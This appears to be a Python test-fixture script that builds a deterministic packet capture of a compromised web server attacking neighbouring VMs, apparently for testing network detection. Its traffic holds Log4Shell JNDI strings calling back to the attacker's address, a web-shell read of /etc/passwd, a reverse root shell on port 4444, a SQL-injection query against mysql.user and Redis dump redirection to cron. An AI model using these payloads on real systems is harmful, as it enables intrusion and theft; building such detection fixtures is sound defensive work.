#!/usr/bin/python3
"""Writes tests/pcaps/guest-to-guest-attack.pcap: what a mirror port on one hypervisor host sees
while a compromised DMZ web server (web-01) attacks its neighbours on the same vSwitch.

  web-01 10.20.0.11 / fd00:20::11  00:50:56:00:00:11  DMZ, compromised
  db-01  10.20.0.12                00:50:56:00:00:12  database zone, VLAN 20
  app-01 10.20.0.13 / fd00:20::13  00:50:56:00:00:13  application zone
  dns    10.20.0.2                 00:50:56:00:00:02

Story: benign DNS and health checks; a ping sweep; a SYN scan of db-01; Log4Shell against
app-01's Java service; a web shell on app-01 used to read /etc/passwd; a reverse shell from
app-01 back to web-01; SQL injection against db-01's admin page; Redis abuse on db-01; an SSH
brute force with a scanner client; the same exploit over IPv6. Deterministic: same bytes every run.
usage: make_demo_pcap.py [OUT]
"""
import os
import sys

sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from pcapgen import Capture, TcpSession, icmp_echo, udp_packet  # noqa: E402

WEB, DB, APP, DNS = "10.20.0.11", "10.20.0.12", "10.20.0.13", "10.20.0.2"
WEB6, APP6 = "fd00:20::11", "fd00:20::13"
MAC = {WEB: "00:50:56:00:00:11", DB: "00:50:56:00:00:12", APP: "00:50:56:00:00:13", DNS: "00:50:56:00:00:02",
       WEB6: "00:50:56:00:00:11", APP6: "00:50:56:00:00:13"}


def session(cap, client, server, cport, sport, vlan=None):
    return TcpSession(cap, client, server, cport, sport, MAC[client], MAC[server], vlan)


def main(out):
    cap = Capture()
    # Benign: DNS lookup and a health check.
    query = bytes.fromhex("12340100000100000000000003646231046c61620000010001")  # db1.lab A
    udp_packet(cap, WEB, DNS, 53001, 53, query, MAC[WEB], MAC[DNS])
    udp_packet(cap, DNS, WEB, 53, 53001, bytes.fromhex("12348180000100010000000003646231046c61620000010001") +
               bytes.fromhex("c00c000100010000003c00040a14000c"), MAC[DNS], MAC[WEB])
    s = session(cap, WEB, APP, 41000, 8080)
    s.handshake()
    s.send(b"GET /health HTTP/1.1\r\nHost: app-01:8080\r\nUser-Agent: kube-probe/1.27\r\n\r\n")
    s.send(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok", to_server=False)
    s.close()

    # Ping sweep of the neighbours.
    icmp_echo(cap, WEB, DB, 0x4242, 1, smac=MAC[WEB], dmac=MAC[DB], vlan=20)
    icmp_echo(cap, WEB, APP, 0x4242, 2, smac=MAC[WEB], dmac=MAC[APP])

    # SYN scan of db-01 (VLAN 20): closed ports answer RST, open ones SYN/ACK.
    for port in (21, 23, 80, 443, 445, 3306):
        session(cap, WEB, DB, 50000 + port, port, vlan=20).refused()
    for port in (22, 5432, 6379):
        s = session(cap, WEB, DB, 50000 + port, port, vlan=20)
        s.handshake()

    # Log4Shell against app-01's Java service.
    s = session(cap, WEB, APP, 41010, 8080)
    s.handshake()
    s.send(b"GET /api/login HTTP/1.1\r\nHost: app-01:8080\r\n"
           b"User-Agent: ${jndi:ldap://10.20.0.11:1389/Exploit}\r\nAccept: */*\r\n\r\n")
    s.send(b"HTTP/1.1 401 Unauthorized\r\nContent-Length: 0\r\n\r\n", to_server=False)
    s.close()

    # The dropped web shell reads /etc/passwd.
    s = session(cap, WEB, APP, 41011, 8080)
    s.handshake()
    s.send(b"POST /uploads/shell.jsp HTTP/1.1\r\nHost: app-01:8080\r\nContent-Type: application/x-www-form-"
           b"urlencoded\r\nContent-Length: 19\r\n\r\ncmd=cat+/etc/passwd")
    s.send(b"HTTP/1.1 200 OK\r\nContent-Length: 70\r\n\r\nroot:x:0:0:root:/root:/bin/bash\n"
           b"daemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\n", to_server=False)
    s.close()

    # Reverse shell: app-01 connects back to web-01:4444 and hands over a root shell.
    s = session(cap, APP, WEB, 38000, 4444)
    s.handshake()
    s.send(b"bash: cannot set terminal process group (1): Inappropriate ioctl for device\n"
           b"bash: no job control in this shell\n")
    s.send(b"id\n", to_server=False)
    s.send(b"uid=0(root) gid=0(root) groups=0(root)\n")
    s.close()

    # SQL injection against db-01's admin page (VLAN 20).
    s = session(cap, WEB, DB, 41020, 80, vlan=20)
    s.handshake()
    s.send(b"GET /admin/users.php?id=1%27%20UNION%20SELECT%20username,password%20FROM%20mysql.user--%20 HTTP/1.1\r\n"
           b"Host: db-01\r\nUser-Agent: sqlmap/1.7.2#stable (https://sqlmap.org)\r\n\r\n")
    s.send(b"HTTP/1.1 200 OK\r\nContent-Length: 0\r\n\r\n", to_server=False)
    s.close()

    # Redis without authentication: point its dump file at cron.
    s = session(cap, WEB, DB, 41030, 6379, vlan=20)
    s.handshake()
    s.send(b"*4\r\n$6\r\nCONFIG\r\n$3\r\nSET\r\n$3\r\ndir\r\n$16\r\n/var/spool/cron/\r\n")
    s.send(b"+OK\r\n", to_server=False)
    s.close()

    # SSH brute force with a scanner's client banner: three attempts.
    for attempt in range(3):
        s = session(cap, WEB, DB, 42000 + attempt, 22, vlan=20)
        s.handshake()
        s.send(b"SSH-2.0-OpenSSH_8.9p1 Ubuntu-3ubuntu0.4\r\n", to_server=False)
        s.send(b"SSH-2.0-libssh2_1.10.0\r\n")
        s.close()

    # The same exploit over IPv6.
    s = session(cap, WEB6, APP6, 43000, 8080)
    s.handshake()
    s.send(b"GET /api/search?q=${jndi:rmi://[fd00:20::11]:1099/x} HTTP/1.1\r\nHost: [fd00:20::13]:8080\r\n\r\n")
    s.close()
    cap.write(out)
    print(f"{out}: {len(cap.packets)} packets")


if __name__ == "__main__":
    main(sys.argv[1] if len(sys.argv) > 1 else
         os.path.join(os.path.dirname(os.path.abspath(__file__)), "guest-to-guest-attack.pcap"))
